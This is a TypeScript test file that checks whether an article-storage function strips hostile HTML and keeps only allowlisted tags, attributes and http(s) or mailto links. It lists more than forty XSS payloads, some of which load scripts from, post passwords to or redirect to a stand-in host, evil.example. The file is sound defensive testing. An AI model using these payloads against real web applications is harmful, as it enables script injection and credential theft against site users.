import { parseHTML } from "linkedom";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { fileArticle } from "./articles";
import { type OpenWorld, openWorld } from "./harness";

/** What a body may hold once it is stored. */
const elements = new Set("P BR H2 H3 H4 H5 UL OL LI BLOCKQUOTE TABLE THEAD TBODY TFOOT TR TH TD CAPTION STRONG B EM I U A".split(" "));
const attributes: Record<string, string[]> = { A: ["href", "rel"], TD: ["colspan", "rowspan"], TH: ["colspan", "rowspan"] };

const hostile = [
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<SCRIPT/SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror\n=\nalert(1)>',
  "<p onclick=alert(1) style='position:fixed' class=x id=y>a</p>",
  "<svg onload=alert(1)><g/></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<a href=javascript:alert(1)>a</a>",
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href=" &#14; javascript:alert(1)">a</a>',
  '<a href="&#x6A;avascript:alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="//evil.example" target=_blank ping=//evil.example>a</a>',
  '<a href="https://ok.example/" onmouseover="alert(1)">a</a>',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<iframe src=https://evil.example></iframe>",
  "<object data=x></object><embed src=x><applet code=x></applet>",
  "<form action=//evil.example><input name=password><button>Anmelden</button></form>",
  "<base href=//evil.example/><link rel=stylesheet href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
  "<style>@import '//evil.example'; p { background: url(//evil.example) }</style>",
  "<template><script>alert(1)</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<textarea></textarea><img src=x onerror=alert(1)>",
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[><img src=x onerror=alert(1)>]]>",
  "<?xml-stylesheet href='javascript:alert(1)'?>",
  "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
  "<p>&amp;lt;script&amp;gt;alert(1)</p>",
  "<b><i><u><a><p><td><li>".repeat(500),
  "<div>".repeat(10_000),
  "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
  "<details open ontoggle=alert(1)><summary>a</summary></details>",
  "<marquee onstart=alert(1)>a</marquee>",
  "<body onload=alert(1)><html onfocus=alert(1) autofocus>",
  "<x-custom onclick=alert(1) contenteditable>a</x-custom>",
  "<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt></p>",
  "<<script>alert(1)//<</script>",
  "<a href='https://ok.example/\"><img src=x onerror=alert(1)>'>a</a>",
  "<td colspan='2\"><script>alert(1)</script>'>a</td>",
];

describe("Hostile bodies", () => {
  let world: OpenWorld;
  beforeAll(async () => {
    world = await openWorld();
  });
  afterAll(() => world.close());

  it.each(hostile)("%j is stored as harmless HTML", async (body) => {
    const article = await fileArticle(world.as("henrike"), await world.folderId("presseschau"), { body: `<p>Anfang</p>${body}` });
    const { document } = parseHTML(`<html><body>${article.body}</body></html>`);
    for (const element of document.body.querySelectorAll("*")) {
      expect(elements, article.body).toContain(element.tagName);
      for (const { name, value } of element.attributes) {
        expect(attributes[element.tagName] ?? [], article.body).toContain(name);
        if (name === "href") expect(value).toMatch(/^(?:https?:\/\/|mailto:)/);
      }
    }
    expect(article.teaser_text).toContain("Anfang");
    expect(article.teaser_text.length).toBeLessThanOrEqual(281);
  });
});
